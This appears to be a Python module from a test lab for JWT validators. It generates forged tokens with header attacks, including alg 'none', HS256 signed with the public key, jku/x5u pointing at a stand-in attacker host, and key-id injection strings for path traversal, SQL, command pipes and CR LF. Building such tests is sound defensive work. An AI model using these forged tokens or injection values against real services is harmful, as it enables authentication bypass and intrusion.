"""Attacks through the header: the attacker writes it, and hopes that the validator obeys.

Threats T05 to T08, T15, T41, and the extensions that a validator must not ignore.
"""

import base64
import functools
import hashlib
import hmac
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from labkit.forge.attack import Attack, Builder, attack
from labkit.forge.issuer import Issuer
from labkit.forge.making import MISSING, public_jwk, public_spellings, token

__all__ = ["HEADERS", "hmac_token"]


def _unsecured(alg: str, signature: bytes | None = b"") -> Builder:
    def build(issuer: Issuer) -> str:
        header = issuer.header(alg=alg)
        if signature is None:  # keep one that looks real
            return token(issuer.claims(), header=header, key=issuer.thief, algorithm=issuer.algorithm)
        return token(issuer.claims(), header=header, signature=signature)

    return build


def _none() -> Iterator[Attack]:
    for alg in ("none", "None", "NONE", "nOnE"):
        yield Attack(
            id="T05",
            name=f"alg {alg}",
            story=f'The header says "{alg}" and the signature is empty: a validator may ask the header.',
            needs="nothing",
            build=_unsecured(alg),
            stopped_by="alg",
            spec="RFC 8725 §3.1",
        )
    yield Attack(
        id="T05",
        name="alg none with a signature",
        story="The header says none, with a signature all the same, for a validator that looks for one.",
        needs="nothing",
        build=_unsecured("none", None),
        stopped_by="alg",
        spec="RFC 8725 §3.1",
    )


@attack(
    "T05",
    "signature stripped",
    story="The signature of a good token is cut off, in the hope that nobody misses it.",
    needs="a token",
    stopped_by="signature",
    spec="RFC 7515 §5.2",
)
def stripped(issuer: Issuer) -> str:
    return issuer.token().rpartition(".")[0] + "."


@attack(
    "T05",
    "no alg at all",
    story="The header names no algorithm, in the hope of a default.",
    needs="nothing",
    stopped_by="alg",
    spec="RFC 7515 §4.1.1",
)
def no_alg(issuer: Issuer) -> str:
    return token(issuer.claims(), header=issuer.header(alg=MISSING), signature=b"")


def hmac_token(issuer: Issuer, secret: bytes, alg: str = "HS256", **header: Any) -> str:
    """A token with good claims and an HMAC made with ``secret``."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    return token(
        issuer.claims(),
        header=issuer.header(alg=alg, **header),
        signature=lambda data: hmac.digest(secret, data, digest),
    )


#: Every spelling that :func:`public_spellings` knows for some key type.
_SPELLINGS = (
    "PEM", "PEM without its last line end", "PEM with CR LF", "PEM in one line", "DER", "JWK",
    "JWK without spaces", "one member of the JWK",
)  # fmt: skip


def _confused() -> Iterator[Attack]:
    for spelling in (*_SPELLINGS, "PKCS#1 PEM", "point"):
        only = {"PKCS#1 PEM": ("RS256",), "point": ("ES256", "EdDSA")}

        def build(issuer: Issuer, spelling: str = spelling) -> str:
            return hmac_token(issuer, public_spellings(issuer.key, issuer.algorithm)[spelling])

        yield Attack(
            id="T06",
            name=f"HS256 with the public key ({spelling})",
            story="The public key, which everybody has, is the secret of an HMAC: a validator that takes the "
            "algorithm from the header uses the same bytes, and finds that it fits (CVE-2016-10555).",
            needs="the public key",
            build=build,
            stopped_by="alg",
            spec="RFC 8725 §3.1",
            algorithms=only.get(spelling, ("ES256", "RS256", "EdDSA")),
        )


@attack(
    "T06",
    "alg of another family",
    story="The header names an algorithm that fits other keys, and the key id of this one.",
    needs="the public key",
    stopped_by="alg",
    spec="RFC 8725 §3.1",
)
def other_family(issuer: Issuer) -> str:
    other = {"ES256": "RS256", "RS256": "PS256", "EdDSA": "ES256"}[issuer.algorithm]
    return issuer.stolen_key(alg=other)


def _kid() -> Iterator[Attack]:
    injections = {
        "a path": ("../../../../dev/null", "key", "reads the key from a file of that name: an empty one"),
        "SQL": ("x' UNION SELECT 'secret' --", "key", "puts it into a query, and gets the attacker's key"),
        "a command": ("|/bin/true", "key", "opens it with something that runs commands"),
        "a URL": ("https://thief.example/key", "key", "fetches the key from there"),
        "CR LF": ("demo\r\nSet-Cookie: admin=1", "kid", "writes it into a log or a header line as it stands"),
        "NUL": ("demo\0.pem", "kid", "compares up to the NUL, and finds the good key"),
        "an escape sequence": ("demo\x1b[2J", "kid", "shows it on a terminal"),
        "5000 characters": ("k" * 5000, "kid", "keeps what it has not found, for the next time"),
    }  # fmt: skip
    for what, (kid, stopped_by, hope) in injections.items():

        def build(issuer: Issuer, kid: str = kid) -> str:
            return issuer.stolen_key(kid=kid)

        yield Attack(
            id="T07",
            name=f"kid: {what}",
            story=f"The key id holds more than a name, for a validator that {hope}.",
            needs="nothing",
            build=build,
            stopped_by=stopped_by,
            spec="RFC 8725 §3.10",
        )


@attack(
    "T08",
    "jku of the attacker",
    story="The header says where to fetch the key: at the attacker, who has signed with it.",
    needs="nothing",
    stopped_by="key",
    spec="RFC 8725 §3.10",
)
def jku(issuer: Issuer) -> str:
    return issuer.stolen_key(kid="thief", jku=issuer.canary)


@attack(
    "T08",
    "x5u of the attacker",
    story="The same with a certificate: and the address may as well be one inside your network.",
    needs="nothing",
    stopped_by="key",
    spec="RFC 8725 §3.10",
)
def x5u(issuer: Issuer) -> str:
    return issuer.stolen_key(kid="thief", x5u=issuer.canary)


@attack(
    "T08",
    "jwk in the header",
    story="The attacker's own public key comes along in the header, under the key id of the good one.",
    needs="nothing",
    stopped_by="signature",
    spec="RFC 8725 §3.10",
)
def jwk(issuer: Issuer) -> str:
    return issuer.stolen_key(jwk=public_jwk(issuer.thief, issuer.algorithm, kid=issuer.kid))


@attack(
    "T08",
    "x5c in the header",
    story="A self-signed certificate of the attacker comes along, with the issuer's name on it.",
    needs="nothing",
    stopped_by="signature",
    spec="RFC 8725 §3.10",
)
def x5c(issuer: Issuer) -> str:
    certificate = _certificate(issuer.algorithm, issuer.thief)
    return issuer.stolen_key(x5c=[base64.b64encode(certificate).decode()])


@attack(
    "T15",
    "unknown kid",
    story="A new key id in each token, in the hope that each makes the broker fetch the key set again.",
    needs="nothing",
    stopped_by="key",
    spec="RFC 7515 §4.1.4",
)
def unknown_kid(issuer: Issuer) -> str:
    return issuer.stolen_key(kid="never-seen-before")


@attack(
    "T41",
    "signed by somebody else",
    story="An authorization server that nobody here trusts issues a token with all the right claims.",
    needs="nothing",
    stopped_by="signature",
    spec="RFC 7515 §5.2",
)
def stranger(issuer: Issuer) -> str:
    return issuer.stolen_key()


@functools.cache
def _certificate(algorithm: str, key: Any) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.example")])
    now = datetime.now(UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    builder = builder.serial_number(x509.random_serial_number())
    builder = builder.not_valid_before(now).not_valid_after(now + timedelta(days=1))
    signed = builder.sign(key, None if algorithm == "EdDSA" else hashes.SHA256())
    return signed.public_bytes(Encoding.DER)


HEADERS: tuple[Attack, ...] = (
    *_none(), stripped, no_alg, *_confused(), other_family, *_kid(), jku, x5u, jwk, x5c, unknown_kid,
    stranger,
)  # fmt: skip
